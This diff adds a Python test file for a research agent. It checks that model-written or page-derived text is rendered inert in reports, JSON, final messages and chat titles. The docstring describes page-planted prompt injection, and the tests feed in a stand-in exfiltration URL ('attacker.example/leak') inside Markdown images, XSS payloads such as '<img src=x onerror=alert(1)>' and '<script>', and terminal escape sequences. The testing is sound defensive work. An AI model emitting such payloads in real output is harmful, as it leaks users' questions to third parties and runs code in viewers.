@@ -1,0 +1,111 @@
+"""Model-written and page-derived text leaves the run inert (issue 30, item 3).
+
+A model that follows instructions planted in a page can write an image whose URL carries the
+question to an attacker, raw HTML that runs in a Markdown viewer, links to pages that are not
+the report's sources, or terminal escapes. These tests hold that none of it reaches the
+report's Markdown, its JSON, the thread's final message or the chat's title.
+"""
+
+from __future__ import annotations
+
+import uuid
+from typing import Any
+
+from langchain_core.messages import AIMessage, BaseMessage, HumanMessage
+from langgraph.checkpoint.memory import InMemorySaver
+
+from deep_research.context import Context
+from deep_research.engines.llm import LLMEngine
+from deep_research.engines.schemas import ChatTitle, ReportAssessment
+from deep_research.graph import build_graph
+from deep_research.inert import inert_markdown, inert_title
+from deep_research.persistence.checkpointer import make_serde
+from deep_research.sources import SAMPLE_CORPUS, LocalCorpus
+from deep_research.sources.local import default_index_path
+from deep_research.state import Report
+from tests.unit_tests import test_graph_llm
+from tests.unit_tests.scripted_model import ScriptedChatModel, structured, text
+
+LEAK = "http://attacker.example/leak?d=question"
+
+
+def test_images_links_and_html_to_unknown_urls_become_text() -> None:
+    source = (
+        f"See ![chart]({LEAK}) and [the paper](https://ref.example/a) and [bait]({LEAK}).\n"
+        "<img src=x onerror=alert(1)> <script>alert(2)</script> <!-- c --> a < b\n"
+        f"[def]: {LEAK}\n[^v1]: a footnote stays\n<{LEAK}> and {LEAK}.\n"
+    )
+    out = inert_markdown(source, {"https://ref.example/a"}).text
+    assert "![" not in out and f"]({LEAK})" not in out
+    assert "See chart and [the paper](https://ref.example/a) and bait." in out
+    assert "<img" not in out and "<script" not in out and "<!--" not in out
+    assert "&lt;img src=x" in out and "a < b" in out  # shown as text, not removed
+    assert "\\[def]:" in out  # a definition no viewer reads as one
+    assert "[^v1]: a footnote stays" in out
+    assert f"`{LEAK}`." in out  # a bare URL in code: never autolinked
+
+
+def test_code_is_left_as_written_but_loses_its_controls() -> None:
+    source = "```\n<b>x</b> ![i](http://e.example/)\n```\nUse `<tag>`\x1b[2J here.\n"
+    out = inert_markdown(source).text
+    assert "```\n<b>x</b> ![i](http://e.example/)\n```\n" in out
+    assert out.endswith("Use `<tag>` here.\n")
+
+
+def test_terminal_escapes_and_controls_are_removed() -> None:
+    source = "A\x1b[31mred\x1b[0m \x1b]0;owned\x07title\x00 with\x08 \x9bcontrols\tand tab\n"
+    assert inert_markdown(source).text == "Ared title with controls\tand tab\n"
+    assert inert_title("Bad\n# Forged heading \x1b[1m<b>") == "Bad # Forged heading &lt;b>"
+
+
+def test_offsets_move_with_the_edits() -> None:
+    source = f"![x]({LEAK}) First claim. <b>Second</b> claim."
+    inert = inert_markdown(source)
+    for phrase in ("First claim.", "Second", "claim."):
+        start = source.rindex(phrase)
+        moved = inert.moved(start), inert.moved(start + len(phrase))
+        assert inert.text[moved[0] : moved[1]] == phrase
+
+
+SCRIPT = "<script>alert(1)</script>"
+
+
+def _respond(messages: list[BaseMessage], tools: list[dict[str, Any]] | None) -> AIMessage:
+    tool = test_graph_llm._tool(tools)
+    if tool == "ChatTitle":
+        return structured(ChatTitle, title="Batteries \x1b[31m<img src=x onerror=alert(1)>")
+    if tool == "ReportAssessment":
+        return structured(
+            ReportAssessment,
+            summary=f"Grid batteries use LFP [E2]. ![chart]({LEAK})",
+            limitations=[{"kind": "uncovered", "text": f"No cost was found. {SCRIPT}"}],
+        )
+    if tool is None:
+        body = test_graph_llm.REPORT.replace("[E2][E3].", f"[E2][E3]. ![x]({LEAK}) {SCRIPT}")
+        return text(body)
+    return test_graph_llm.respond(messages, tools)
+
+
+async def test_a_model_following_page_text_writes_no_active_content(tmp_path: Any) -> None:
+    model = ScriptedChatModel(responses=[_respond] * 60)
+    corpus = LocalCorpus(SAMPLE_CORPUS, default_index_path(tmp_path, SAMPLE_CORPUS))
+    graph = build_graph(
+        engine=LLMEngine(model, name="scripted-model"),
+        sources=[corpus],
+        checkpointer=InMemorySaver(serde=make_serde()),
+    )
+    config = {"configurable": {"thread_id": uuid.uuid4().hex}}
+    question = "Compare LFP and NMC and describe Hornsdale Power Reserve"
+    await graph.ainvoke({"messages": [HumanMessage(question)]}, config, context=Context())
+    values = (await graph.aget_state(config)).values
+    report: Report = values["report"]
+    for output in (report.markdown, report.model_dump_json(), values["messages"][-1].text):
+        assert "attacker.example/leak" not in output.replace(f"`{LEAK}`", "")
+        assert "<script" not in output and "<img" not in output and "\x1b" not in output
+    assert "![" not in report.markdown
+    assert values["title"] == "Batteries &lt;img src=x onerror=alert(1)>"
+    assert report.markdown.startswith("# Batteries &lt;img src=x onerror=alert(1)>\n")
+    assert report.summary.startswith("Grid batteries use LFP [")
+    assert report.limitations[0].text.startswith("No cost was found. &lt;script>")
+    for claim in report.claims:  # offsets still point at the claims
+        assert report.markdown[claim.position_start : claim.position_end] == claim.text
